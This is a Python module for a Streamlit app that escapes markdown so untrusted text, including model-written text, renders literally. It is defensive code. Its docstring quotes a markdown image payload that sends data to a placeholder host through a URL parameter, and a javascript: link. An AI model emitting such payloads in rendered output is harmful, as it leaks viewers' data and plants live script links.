"""Untrusted text stays text: the one way pages show what a person or a model wrote.

Streamlit renders markdown almost everywhere (``st.markdown``, captions, headers,
toasts, alerts, widget labels). A resume, a job posting, an answer, a session name or a
chat message holding ``![x](http://host/t.png?leak=…)`` would make every viewer's
browser fetch that URL, and a ``[click](javascript:…)`` would be a live link. ``inert``
backslash-escapes every character markdown gives a meaning to, so the text shows as
typed and nothing in it loads, links or runs. Raw HTML is never enabled.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

import streamlit as st

# The ASCII punctuation that markdown, GFM or Streamlit's extensions (":red[…]",
# "$…$") give a meaning to anywhere in a line; CommonMark lets a backslash escape each.
# With "[", "(", "!" and "<" escaped no link or image can form, so ":" (which only names
# an icon or a colour) is left as typed. "1." is a list only at a line start.
_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-!|<>~$])")
_ORDERED_LIST = re.compile(r"^(\s*\d+)\.", re.MULTILINE)
# GFM turns a bare "http://…" or "www.…" into a link: an escaped slash or dot prevents it.
_AUTOLINK = re.compile(r"(://|www\.)", re.IGNORECASE)


def inert(text: str) -> str:
    """``text`` as markdown that displays it literally, line breaks kept."""
    escaped = _ORDERED_LIST.sub(r"\1\\.", _SPECIAL.sub(r"\\\1", text))
    escaped = _AUTOLINK.sub(lambda m: m.group(1).replace("/", "\\/").replace(".", "\\."), escaped)
    return escaped.replace("\r\n", "\n").replace("\n", "  \n")


def show(text: str) -> None:
    """Shows untrusted text as plain text, in the page's normal font."""
    st.markdown(inert(text))


def inert_stream(pieces: Iterable[str]) -> Iterator[str]:
    """A streamed reply made inert piece by piece (escaping never spans pieces)."""
    for piece in pieces:
        yield inert(piece)
